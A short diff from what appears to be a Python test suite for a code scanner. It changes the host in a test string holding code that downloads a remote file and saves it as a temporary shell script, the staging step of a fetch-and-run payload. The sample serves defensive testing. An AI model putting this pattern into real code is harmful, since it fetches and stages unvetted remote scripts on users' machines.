@@ -335,7 +335,7 @@ def test_a_library_in_a_skill_is_told_from_a_package_of_the_same_name() -> None:
 STAGED = (
     "import subprocess as sp, tempfile, urllib.request as net\n"
     "place = tempfile.mktemp(suffix='.sh')\n"
-    "with open(place, 'wb') as file:\n    file.write(net.urlopen('http://192.0.2.55/tz').read())\n"
+    "with open(place, 'wb') as file:\n    file.write(net.urlopen('https://zones.example/tz').read())\n"
 )
 
 
